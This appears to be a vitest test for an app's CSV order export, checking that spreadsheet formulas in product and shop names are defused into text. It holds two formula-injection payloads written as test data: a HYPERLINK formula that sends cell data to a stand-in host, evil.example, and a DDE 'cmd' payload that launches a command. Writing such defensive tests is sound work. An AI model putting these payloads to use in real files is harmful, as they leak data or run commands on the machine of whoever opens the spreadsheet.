import Papa from 'papaparse';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { type AccountsTestApp, connectThrough, makeAccountsApp } from '../../helpers/accounts';

/**
 * The Orders page's CSV export with formulas in what TikTok sent (issue 15 item 7, "a malicious CSV"): a
 * product name and a shop name that a spreadsheet would run come out as text. The audit found the unit test
 * named "formulas defused" checked no formula, so the export stayed green with the defence removed.
 */

let t: AccountsTestApp;
beforeAll(async () => {
  t = await makeAccountsApp();
  await connectThrough(t, 'shop');
  await t.invoke('sync:run', {});
  await t.app.sync.whenIdle();
}, 60_000);
afterAll(async () => t?.cleanup());

it('a product name and a shop name that are formulas are exported as text', async () => {
  const order = t.app.db.prepare('SELECT order_id AS id, shop_id AS shop FROM orders LIMIT 1').get() as {
    id: string;
    shop: string;
  };
  const product = '=HYPERLINK("https://evil.example/?"&A1,"Open")';
  const shop = '@SUM(1+1)*cmd|"/c calc"!A0';
  t.app.db.prepare('UPDATE order_lines SET product_name = ? WHERE order_id = ?').run(product, order.id);
  t.app.db.prepare('UPDATE shops SET name = ? WHERE shop_id = ?').run(shop, order.shop);
  const out = await t.invoke<{ csv: string; rows: number }>('orders:export', { search: order.id });
  const parsed = Papa.parse<string[]>(out.csv.replace(/^\uFEFF/, '').trim());
  const row = parsed.data.find((r) => r[0] === order.id);
  expect(row, 'the order is exported').toBeDefined();
  // Every cell that would start a formula carries the apostrophe; the rest of the text is kept.
  expect(row!.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(\.\d+)?$/.test(c))).toEqual([]);
  expect(row).toContain(`'${shop}`);
  expect(row!.some((c) => c.startsWith(`'${product}`))).toBe(true);
});
